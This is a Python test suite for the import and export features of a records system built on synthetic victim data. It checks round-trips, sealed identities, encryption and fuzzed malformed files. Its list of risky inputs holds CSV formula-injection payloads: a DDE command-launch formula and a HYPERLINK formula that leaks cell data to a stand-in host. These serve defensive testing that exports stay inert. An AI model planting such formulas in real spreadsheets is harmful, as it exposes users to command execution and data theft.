"""Properties of the exchange, checked on generated inputs (hypothesis): export → import → export gives
the same file on both backends; an analyst's export never holds a sealed value; malformed files
(bad encodings, wrong types, huge cells, formulas) are rejected whole with `file:row:column` problems
and write nothing, and no formula ever goes back into a spreadsheet unescaped. Synthetic data only."""

import csv
import datetime as dt
import io
import json
import re
import tracemalloc
import zipfile

import openpyxl
import pyrage
import pytest
import sqlalchemy as sa
from exchange_helpers import actor, row_counts, second_workspace, unpacked, wipe  # noqa: F401 (fixture)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from redzone.cli import app
from redzone.errors import ValidationError
from redzone.exchange import ImportRejected, export_records, import_file, render_markdown
from redzone.exchange.readers import MAX_ROW_BYTES
from redzone.exchange.spreadsheet import TRIGGERS
from redzone.records.entry import (ActDetails, AttestationSpec, Context, PerpetratorSpec, add_act, add_event,
                                   add_group, add_organisation, add_person, add_source, attest_event)
from redzone.records.identity import Identity
from redzone.records.users import actor_for
from redzone.security.policy import ROLE_ACTIONS, Actor
from redzone.vocab import load_vocabulary

VOCABULARY = load_vocabulary()
SEALED_MARK = "ZQXSEALED"
PROBLEM_LINE = re.compile(r"^[^:]+(\[[^\]]+\])?:\d+:.+: .+", re.DOTALL)
RISKY = ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.invalid/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "'=quoted",
         "''=twice", "=1;=2"]
EXAMPLES = settings(max_examples=6, deadline=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def plain_text(max_size=30):
    """Text a partner might type: any script, no control characters, no surrounding spaces (cells are
    trimmed on import), sometimes a formula."""
    letters = st.characters(blacklist_categories=("Cs", "Cc", "Cn", "Co", "Zl", "Zp"))
    typed = st.text(letters, min_size=1, max_size=max_size).map(str.strip).filter(bool)
    return st.one_of(typed, st.sampled_from(RISKY))


def dates():
    return st.dates(min_value=dt.date(1990, 1, 1), max_value=dt.date(2023, 12, 31))


PLACES = [p for p in VOCABULARY.places if p.count(".") >= 1][:40]


@st.composite
def worlds(draw):
    """A small synthetic world: groups, events, persons with identities, sources, acts."""
    groups = draw(st.lists(st.tuples(plain_text(), st.sampled_from(list(VOCABULARY.lists["group_kinds"])),
                                     st.one_of(st.none(), st.sampled_from(PLACES))), max_size=3))
    events = draw(st.lists(st.tuples(st.sampled_from(list(VOCABULARY.lists["event_kinds"])),
                                     st.one_of(st.none(), st.sampled_from(PLACES)),
                                     st.one_of(st.none(), dates()), st.sampled_from(["day", "month", "year"]),
                                     st.one_of(st.just(""), plain_text(60))), max_size=4))
    alias = st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cn", "Co", "Zl", "Zp"),
                                  blacklist_characters=";"), min_size=1, max_size=12).map(str.strip).filter(bool)
    persons = draw(st.lists(st.tuples(
        st.sampled_from(list(VOCABULARY.lists["sexes"])), st.one_of(st.none(), st.integers(1940, 2012)),
        st.one_of(st.none(), st.sampled_from(PLACES)), plain_text(), st.lists(alias, max_size=2, unique=True)),
        min_size=1, max_size=4))
    sources = draw(st.lists(st.tuples(st.sampled_from(list(VOCABULARY.lists["source_kinds"])), plain_text(),
                                      st.sampled_from(list(VOCABULARY.lists["reliability"])),
                                      st.integers(1, 6), st.one_of(st.none(), dates()), plain_text(80)),
                            min_size=1, max_size=3))
    acts = draw(st.lists(st.tuples(
        st.integers(0, 10), st.sampled_from(list(VOCABULARY.violations)), st.integers(0, 10),
        st.one_of(st.none(), st.tuples(st.integers(0, 10**6), st.sampled_from(list(VOCABULARY.lists["currencies"])))),
        st.lists(st.tuples(st.sampled_from(list(VOCABULARY.roles)), st.integers(0, 10)), max_size=2),
        st.lists(st.integers(0, 10), max_size=2, unique=True), st.one_of(st.just(""), plain_text(40))), max_size=5))
    return groups, events, persons, sources, acts


def build(ws, world):
    groups, events, persons, sources, acts = world
    with ws.store.session() as session:
        ctx = Context(session, ws.keys, actor_for(session, "interviewer"))
        add_organisation(ctx, "demo-partner", "Partner organisation (fictional)")
        made_groups = [add_group(ctx, name=n, kind=k, place_id=p) for n, k, p in groups]
        made_events = [add_event(ctx, kind=k, place_id=p, date_start=d, date_precision=precision if d else "unknown",
                                 description=text) for k, p, d, precision, text in events]
        made_persons = []
        for index, (sex, born, origin, name, aliases) in enumerate(persons):
            person = add_person(ctx, sex=sex, birth_year_min=born, origin_place_id=origin,
                                organisation_id="demo-partner",
                                identity=Identity(legal_name=f"{SEALED_MARK}{index} {name}", hangul_name="김가명",
                                                  aliases=tuple(aliases), contact=f"{SEALED_MARK}-contact",
                                                  whereabouts=f"{SEALED_MARK}-whereabouts"))
            made_persons.append(person)
        made_sources = [add_source(ctx, kind=k, title=title, reliability=r, credibility=c, date=d,
                                   text=f"{SEALED_MARK} {text}", organisation_id="demo-partner",
                                   interviewee=made_persons[0] if k == "interview" else None)
                        for k, title, r, c, d, text in sources]
        for victim, violation, event, price, perpetrators, attesting, notes in acts:
            add_act(ctx, victim=made_persons[victim % len(made_persons)], violation=violation,
                    event=made_events[event % len(made_events)] if made_events else None,
                    details=ActDetails(
                        price_amount=price[0] if price else None, price_currency=price[1] if price else None,
                        notes=notes,
                        perpetrators=[PerpetratorSpec(role, group=made_groups[g % len(made_groups)] if made_groups
                                                      else None) for role, g in perpetrators],
                        attestations=[AttestationSpec(made_sources[s % len(made_sources)]) for s in
                                      dict.fromkeys(s % len(made_sources) for s in attesting)]))
        for index, source in enumerate(made_sources if made_events else ()):  # the events each source tells
            attest_event(ctx, made_events[index % len(made_events)],
                         AttestationSpec(source, *((0, 5) if index % 2 else (None, None))))


def contents(data: bytes) -> dict[str, bytes]:
    """An export's content, comparable across runs: ZIP members by name (timestamps dropped)."""
    if not data.startswith(b"PK"):
        return {"": data}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture
def identity_exporter(monkeypatch):
    monkeypatch.setitem(ROLE_ACTIONS, "test_exchange_partner",
                        {"export.pseudonymised", "export.identities", "import.run", "person.view_sealed",
                         "source.view_text", "person.create", "person.edit", "person.edit_sealed", "source.create",
                         "act.create"})
    return Actor(username="interviewer", role="test_exchange_partner")


@pytest.mark.slow
@EXAMPLES
@given(world=worlds(), fmt=st.sampled_from(["csv", "xlsx", "json"]))
def test_export_import_export_is_the_identity(workspace, second_workspace, tmp_path_factory, world, fmt):  # noqa: F811
    folder = tmp_path_factory.mktemp("roundtrip")
    wipe(workspace)
    wipe(second_workspace)
    build(workspace, world)
    analyst = actor(workspace, "analyst")
    first = folder / f"first.{fmt}"
    export_records(workspace, analyst, first, fmt=fmt)
    data = first.read_bytes()
    assert SEALED_MARK.encode() not in unpacked(data)  # an analyst's export holds no sealed value
    if fmt == "csv":  # several types: a ZIP of one CSV per type
        first = first.rename(folder / "first.zip")
    try:
        report = import_file(second_workspace, actor(second_workspace, "officer"), first, organisation="demo-partner")
    except ImportRejected as rejected:
        raise AssertionError([str(p) for p in rejected.problems]) from None
    assert report.codes_reassigned == 0
    again = folder / f"again.{fmt}"
    export_records(second_workspace, actor(second_workspace, "analyst"), again, fmt=fmt)
    assert contents(again.read_bytes()) == contents(data)
    # The same file once more changes nothing.
    repeat = import_file(second_workspace, actor(second_workspace, "officer"), first, organisation="demo-partner")
    assert all(c["created"] == c["updated"] == 0 for c in repeat.counts.values())


@pytest.mark.slow
@settings(max_examples=3, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                 HealthCheck.too_slow])
@given(world=worlds())
def test_identities_survive_an_encrypted_round_trip(workspace, second_workspace, tmp_path_factory,  # noqa: F811
                                                    identity_exporter, world):
    folder = tmp_path_factory.mktemp("identities")
    wipe(workspace)
    wipe(second_workspace)
    build(workspace, world)
    secret = pyrage.x25519.Identity.generate()
    sealed = folder / "identities.json.age"
    export_records(workspace, identity_exporter, sealed, fmt="json", with_identities=True,
                   recipient=str(secret.to_public()))
    assert SEALED_MARK.encode() not in sealed.read_bytes()
    import_file(second_workspace, identity_exporter, sealed, age_identity=str(secret), organisation="demo-partner")
    again = folder / "again.json.age"
    export_records(second_workspace, identity_exporter, again, fmt="json", with_identities=True,
                   recipient=str(secret.to_public()))
    first_plain = json.loads(pyrage.decrypt(sealed.read_bytes(), [secret]))
    again_plain = json.loads(pyrage.decrypt(again.read_bytes(), [secret]))
    assert again_plain == first_plain
    assert any(SEALED_MARK in (row.get("legal_name") or "") for row in again_plain)


# --- fuzzing the importer ------------------------------------------------------------------------------

def assert_rejected_cleanly(ws, path, before, **options):
    """Either the file imports, or it is rejected whole with problems in file:row:column form."""
    try:
        import_file(ws, actor(ws, "officer"), path, **options)
    except ImportRejected as rejected:
        assert rejected.problems and all(PROBLEM_LINE.match(str(p)) for p in rejected.problems), rejected.problems
        assert row_counts(ws) == before
        return False
    except ValidationError as error:  # a whole-file fault (format, encoding) in one line
        assert "\n" not in str(error) and row_counts(ws) == before
        return False
    return True


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(body=st.binary(max_size=400), suffix=st.sampled_from(["csv", "json", "jsonl", "xlsx"]),
       header=st.sampled_from([b"", b"ref,name,kind\n", b"\xef\xbb\xbfref,name,kind\n", b"\xff\xfe", b"[",
                               b"PK\x03\x04"]))
def test_arbitrary_bytes_never_crash_the_importer(workspace, tmp_path_factory, body, suffix, header):
    path = tmp_path_factory.mktemp("fuzz") / f"groups.{suffix}"
    path.write_bytes(header + body)
    before = row_counts(workspace)
    if assert_rejected_cleanly(workspace, path, before):
        wipe(workspace)


cells = st.one_of(
    plain_text(40), st.sampled_from(RISKY), st.text(max_size=20),  # any text, controls and surrogates included
    st.integers(-10**20, 10**20).map(str), st.floats(allow_nan=True).map(repr),
    st.just("x" * 40_000),  # longer than any cell of the layout allows but one
    st.sampled_from(["", " ", "1900", "2999", "19x0", "2019-02-30", "cn.jilin.yanbian.yanji", "Yanji", "broker",
                     "female", "B", "7", "E1", "E1;E1", "@", ";"]))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(kind=st.sampled_from(["groups", "events", "persons", "sources"]), data=st.data())
def test_generated_rows_are_all_or_nothing_and_formulas_stay_inert(workspace, tmp_path_factory, kind, data):
    from redzone.exchange import LAYOUTS

    folder = tmp_path_factory.mktemp("rows")
    layout = LAYOUTS[kind]
    columns = [c.name for c in layout.columns if c.name not in ("code", "event_refs", "interviewee_ref")]
    rows = data.draw(st.lists(st.fixed_dictionaries({name: cells for name in columns}), min_size=1, max_size=5))
    for index, row in enumerate(rows):
        row["ref"] = f"R{index}"
    fmt = data.draw(st.sampled_from(["csv", "json"]))
    path = folder / f"{kind}.{fmt}"
    if fmt == "csv":
        with open(path, "w", newline="", encoding="utf-8", errors="surrogatepass") as stream:
            writer = csv.DictWriter(stream, fieldnames=columns)
            writer.writeheader()
            writer.writerows(rows)
    else:
        path.write_bytes(json.dumps(rows, ensure_ascii=True).encode())
    before = row_counts(workspace)
    if not assert_rejected_cleanly(workspace, path, before, organisation="fuzz-org"):
        return
    # Accepted: whatever came in goes out to a spreadsheet with no live formula.
    exported = folder / "out.csv"
    export_records(workspace, actor(workspace, "analyst"), exported, fmt="csv", types=[kind])
    for cell in (c for line in csv.reader(io.StringIO(exported.read_text(encoding="utf-8-sig"))) for c in line):
        assert not cell.startswith(TRIGGERS), cell
    wipe(workspace)


WRONG_TYPES = [
    ([{"ref": "G1", "name": {"nested": 1}, "kind": "brothel"}], "groups.json:1:name: must be text, a number"),
    ([{"ref": "G1", "name": True, "kind": "brothel"}], "groups.json:1:name: must not be true/false"),
    ([{"ref": "G1", "name": "x", "kind": ["brothel"]}], "groups.json:1:kind: must be a single value, not a list"),
    ([{"ref": "G1", "name": "x", "kind": 3}], "groups.json:1:kind: '3' is not in the vocabulary's group_kinds"),
    (["just text"], "groups.json:1:(row): is a JSON str, not an object"),
]


def test_wrong_json_types_are_named(workspace, tmp_path):
    path = tmp_path / "groups.json"
    for body, expected in WRONG_TYPES:
        path.write_text(json.dumps(body), encoding="utf-8")
        with pytest.raises(ImportRejected) as rejected:
            import_file(workspace, actor(workspace, "officer"), path)
        assert any(str(p).startswith(expected) for p in rejected.value.problems), rejected.value.problems


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_a_huge_cell_is_named_and_memory_stays_bounded(workspace, tmp_path, fmt):
    """Rows of 9 MiB (CSV: longer than a row may be) or 5 MiB cells (JSON) in a file of 40-55 MiB: each
    named, and the import's peak of Python memory (tracemalloc) stays under 4 × MAX_ROW_BYTES (32 MiB),
    whatever the file's size: a row is held at most a few times over, never the file."""
    bound = 4 * MAX_ROW_BYTES
    path = tmp_path / f"groups.{fmt}"
    with open(path, "w", encoding="utf-8") as stream:
        if fmt == "csv":
            stream.write("ref,name,kind\nG1,ok,brothel\n")
            for number in range(2, 8):
                stream.write(f"G{number}," + "y" * (9 * 1024 * 1024) + ",brothel\n")  # longer than 8 MiB
            stream.write("G8," + "z" * 300 + ",brothel\n")
        else:
            stream.write('[{"ref": "G1", "name": "ok", "kind": "brothel"}')
            for number in range(2, 10):
                stream.write(f', {{"ref": "G{number}", "name": "' + "y" * (5 * 1024 * 1024) + '", "kind": "brothel"}')
            stream.write(', {"ref": "G10", "name": "' + "z" * 300 + '", "kind": "brothel"}]')
    assert path.stat().st_size > bound
    tracemalloc.start()
    try:
        with pytest.raises(ImportRejected) as rejected:
            import_file(workspace, actor(workspace, "officer"), path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    shown = [str(p) for p in rejected.value.problems]
    if fmt == "csv":  # the header is row 1
        assert shown[0] == "groups.csv:3:ref: row longer than 8 MiB"
        assert shown[-1].startswith("groups.csv:9:name: is 300 characters long; at most 200 allowed")
    else:  # the first object is row 1
        assert shown[0] == "groups.json:2:name: is 5,242,880 characters long; at most 200 allowed"
        assert shown[-1].startswith("groups.json:10:name: is 300 characters long; at most 200 allowed")
    assert peak < bound, f"peak {peak / 2**20:.1f} MiB for a {path.stat().st_size / 2**20:.0f} MiB file"
    assert row_counts(workspace)["perpetrator_group"] == 0


def test_templates_from_the_command_line_import_back(workspace, tmp_path):
    from support import PASSPHRASE

    env = {"REDZONE_WORKSPACE": str(workspace.path), "REDZONE_PASSPHRASE": PASSPHRASE, "COLUMNS": "200"}
    runner = CliRunner()
    for name in ("partner.xlsx", "partner.json", "acts.csv"):
        made = runner.invoke(app, ["import", "--template", str(tmp_path / name)], env=env)
        assert made.exit_code == 0, made.output
    book = openpyxl.load_workbook(tmp_path / "partner.xlsx", read_only=True)
    assert book.sheetnames == ["groups", "events", "persons", "sources", "acts"]
    for name in ("partner.xlsx", "partner.json"):
        # The interviewer: the second file finds the persons the first one made, and carries their identity
        # columns, which only a role that may change those identities may import again.
        done = runner.invoke(app, ["--user", "interviewer", "--json", "import", str(tmp_path / name)], env=env)
        assert done.exit_code == 0, done.output
        assert set(json.loads(done.output)["counts"]) == {"groups", "events", "persons", "sources", "acts"}
    refused = runner.invoke(app, ["import", "--template", str(tmp_path / "data.csv")], env=env)
    assert refused.exit_code == 1 and "a CSV template holds one record type" in str(refused.exception or refused.output)


def test_the_column_layout_in_the_docs_is_current():
    from pathlib import Path

    docs = (Path(__file__).resolve().parents[2] / "docs" / "exchange.md").read_text(encoding="utf-8")
    generated = render_markdown()
    assert generated in docs, "docs/exchange.md is stale: regenerate its layout with python -m redzone.exchange.layout"


def test_two_unnamed_perpetrators_in_one_role_stay_two(workspace, tmp_path):
    from redzone.records.models import ActPerpetrator

    officer = actor(workspace, "officer")
    (tmp_path / "persons.csv").write_text("ref,sex\nP1,female\n", encoding="utf-8")
    (tmp_path / "acts.csv").write_text("ref,victim_ref,violation,perpetrators\nA1,P1,trafficking.sale,broker;broker\n",
                                       encoding="utf-8")
    import_file(workspace, officer, tmp_path / "persons.csv")
    import_file(workspace, officer, tmp_path / "acts.csv")
    assert row_counts(workspace)[ActPerpetrator.__tablename__] == 2


def test_imported_identities_are_sealed_exactly_as_typed_in_ones(workspace, tmp_path):
    from redzone.records.identity import identity_context, seal_identity
    from redzone.records.models import Person

    (tmp_path / "persons.csv").write_text("ref,legal_name,hangul_name,aliases,contact\n"
                                          "P1,Synthetic Pak,박가명,Mi-ya;진메이,\nP2,,,,\n", encoding="utf-8")
    import_file(workspace, actor(workspace, "interviewer"), tmp_path / "persons.csv")
    with workspace.store.session() as session:
        stored = dict(session.execute(sa.select(Person.code, Person.identity_sealed)).all())
    sealer = workspace.keys.fields
    by_hand = {code: seal_identity(sealer, code, Identity(legal_name="Synthetic Pak", hangul_name="박가명",
                                                           aliases=("Mi-ya", "진메이"))) for code in stored}
    [(code, blob)] = [(c, b) for c, b in stored.items() if b is not None]
    assert sealer.unseal(blob, identity_context(code)) == sealer.unseal(by_hand[code], identity_context(code))
    assert sum(blob is None for blob in stored.values()) == 1  # no identity given: nothing sealed


def test_a_dry_run_of_one_table_counts_and_writes_nothing(workspace, tmp_path):
    (tmp_path / "persons.csv").write_text("ref,organisation,sex\nP1,new-org,female\nP2,,male\n", encoding="utf-8")
    before = row_counts(workspace)
    report = import_file(workspace, actor(workspace, "officer"), tmp_path / "persons.csv", dry_run=True,
                         organisation="dry-org")
    assert report.counts == {"persons": {"created": 2, "updated": 0, "unchanged": 0}}
    assert sorted(report.organisations_created) == ["dry-org", "new-org"]
    after = row_counts(workspace)
    assert after.pop("audit_entry") == before.pop("audit_entry") + 1  # the dry run's own entry, nothing else
    assert after == before
